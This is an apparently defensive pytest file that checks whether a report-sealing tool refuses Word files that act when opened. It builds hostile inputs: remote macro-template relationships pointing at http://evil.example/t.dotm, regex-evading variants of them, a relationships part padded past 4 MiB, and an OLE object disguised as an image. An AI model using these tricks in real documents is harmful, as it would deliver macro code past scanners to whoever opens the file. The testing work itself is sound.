"""Review (hostile, after the merge of issues 20-26): the seal against a pull request's own
files and against the rules merged beside it.

A pull request can seal a report issued before the seal existed (the shipped seed) or a
new issued report with a manifest of its own: Git is no witness for a manifest that is not
in ``HEAD`` yet, so ``issued-file-active`` is what stops an Office file that acts when
opened from being published as the official Word file. Here the manifest is written by
:func:`baocao.seal.manifest.make` over the seed's files, as such a pull request would,
with a Word file of its own (no Chromium print needed).
"""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from pathlib import Path

import pytest

from conftest import copy_repo, run_cli

FOLDER = Path("docs/reports/2025-q3")
DOCX = "bao-cao-2025-q3.docx"
TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
OLE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject"


def seal(root: Path, docx: bytes | None = None) -> None:
    """Seal the seed report as it stands (with ``docx`` as its kept Word file), as
    ``baocao issue --seal-existing`` would, without printing the PDF."""
    from baocao.check import run_check
    from baocao.periods import Period
    from baocao.seal import names
    from baocao.seal.manifest import dump, make

    checked = run_check(root)
    assert checked.ok, checked.problems
    report = checked.archive.report(Period.parse("2025-Q3"))
    folder = root / FOLDER
    files = {p.name: p.read_bytes() for p in folder.glob("*.md")}
    if docx is not None:
        (folder / DOCX).write_bytes(docx)
        files[DOCX] = docx
    manifest = make(report, checked.archive, files, dt.date(2025, 10, 1))
    (folder / names.MANIFEST).write_text(dump(manifest, report.period.label), encoding="utf-8")


def office_docx(root: Path) -> bytes:
    from baocao.check import run_check
    from baocao.export.docx import to_bytes
    from baocao.periods import Period

    archive = run_check(root).archive
    return to_bytes(archive, archive.report(Period.parse("2025-Q3")))


def rewritten(docx: bytes, relationship: str, extra: dict[str, bytes] | None = None, pad: int = 0) -> bytes:
    """``docx`` with one more relationship in the main document's part (and more parts)."""
    source = zipfile.ZipFile(io.BytesIO(docx))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "word/_rels/document.xml.rels":
                data = data.replace(b"</Relationships>", relationship.encode() + b" " * pad + b"</Relationships>")
            target.writestr(item.filename, data)
        for name, data in (extra or {}).items():
            target.writestr(name, data)
    return out.getvalue()


def test_the_pull_request_seal_helper_is_accepted(tmp_path):
    """The baseline: the seed sealed with the Word file baocao makes passes the check."""
    root = copy_repo(tmp_path / "repo")
    seal(root, office_docx(root))
    done = run_cli(root, "check")
    assert done.returncode == 0, done.stdout


VARIANTS = {
    # the form the check reads (passes today: the control)
    "double-quotes": f'<Relationship Id="rIdX" Type="{TEMPLATE}" Target="http://evil.example/t.dotm" '
                     'TargetMode="External"/>',
    # the same outside template, written as XML allows
    "single-quotes": f"<Relationship Id='rIdX' Type='{TEMPLATE}' Target='http://evil.example/t.dotm' "
                     "TargetMode='External'/>",
    "newline-after-name": f'<Relationship\nId="rIdX" Type="{TEMPLATE}" Target="http://evil.example/t.dotm" '
                          'TargetMode="External"/>',
    "hyperlink-in-target": f'<Relationship Id="rIdX" Type="{TEMPLATE}" '
                           'Target="http://evil.example/hyperlink/t.dotm" TargetMode="External"/>',
}


@pytest.mark.parametrize("variant", sorted(VARIANTS))
def test_a_kept_word_file_with_an_outside_template_is_refused(tmp_path, variant):
    """check/seal._active_docx reads relationships with a byte regex: ``<Relationship `` then
    ``TargetMode="External"`` in double quotes, and any ``/hyperlink`` in the tag excuses
    it. Single quotes, a newline after the element's name, or ``/hyperlink`` in the target
    URL slip an outside (macro) template past ``issued-file-active``."""
    root = copy_repo(tmp_path / "repo")
    seal(root, rewritten(office_docx(root), VARIANTS[variant]))
    done = run_cli(root, "check")
    assert "[issued-file-active]" in done.stdout, done.stdout


def test_a_relationships_part_padded_past_4_mib_is_still_read(tmp_path):
    """Relationship parts of 4 MiB or more (uncompressed) are skipped: spaces compress to
    nothing, so a 30 kB Word file hides its outside template that way."""
    root = copy_repo(tmp_path / "repo")
    relationship = (f'<Relationship Id="rIdX" Type="{TEMPLATE}" Target="http://evil.example/t.dotm" '
                    'TargetMode="External"/>')
    docx = rewritten(office_docx(root), relationship, pad=4 << 20)
    assert len(docx) < 200_000
    seal(root, docx)
    done = run_cli(root, "check")
    assert "[issued-file-active]" in done.stdout, done.stdout


def test_an_embedded_object_under_another_name_is_refused(tmp_path):
    """Embedded objects are found by part name (``embeddings/``, ``oleObject``), but a part's
    name is free: an OLE object at ``word/media/image9.bin``, related as ``oleObject``."""
    root = copy_repo(tmp_path / "repo")
    relationship = f'<Relationship Id="rIdO" Type="{OLE}" Target="media/image9.bin"/>'
    docx = rewritten(office_docx(root), relationship, {"word/media/image9.bin": b"\xd0\xcf\x11\xe0" + bytes(508)})
    seal(root, docx)
    done = run_cli(root, "check")
    assert "[issued-file-active]" in done.stdout, done.stdout


# --- the seal and the copied-text rule ----------------------------------------------------------


def test_a_sealed_report_is_not_asked_for_a_change_the_seal_refuses(tmp_path):
    """check/copied: in an issued report a section like last quarter's is an ERROR "unless the
    section says ``acknowledged: true``". In a sealed report that line is refused by the seal
    (``issued-changed``), and an erratum may not touch the front matter: the error has no
    way out but a replacement report. It happens as soon as the quarter before is added
    after the seal (a past report imported, ``baocao import``), or is replaced: here a draft
    of 2025-Q2 reusing the seed's wording turns the sealed 2025-Q3 red, and the build stops."""
    root = copy_repo(tmp_path / "repo")
    seal(root)
    before = root / "docs/reports/2025-q2"
    before.mkdir()
    for path in (root / FOLDER).glob("*.md"):
        text = path.read_text(encoding="utf-8")
        if path.name == "index.md":
            text = (text.replace("period: 2025-Q3", "period: 2025-Q2").replace("status: issued", "status: draft")
                    .replace("missing_in_source: [number, issued_on]\n", "").replace("as_of: 2025-08-25", "as_of: 2025-05-25"))
        text = re.sub(r"(?m)^milestones:\n(?:  .*\n)+", "", text)  # dates of Q3 do not fit Q2
        (before / path.name).write_text(text, encoding="utf-8")
    done = run_cli(root, "check")
    sealed_errors = [line for line in done.stdout.splitlines()
                     if line.startswith(f"{FOLDER.as_posix()}/") and "[same-as-previous]" in line]
    if not sealed_errors:
        return
    # the fix the message asks for
    for line in sealed_errors:
        path = root / line.split(":", 1)[0]
        text = path.read_text(encoding="utf-8")
        path.write_text(text.replace("\nstatus: approved\n", "\nstatus: approved\nacknowledged: true\n", 1),
                        encoding="utf-8")
    again = run_cli(root, "check")
    assert not [line for line in again.stdout.splitlines() if line.startswith(f"{FOLDER.as_posix()}/")], again.stdout
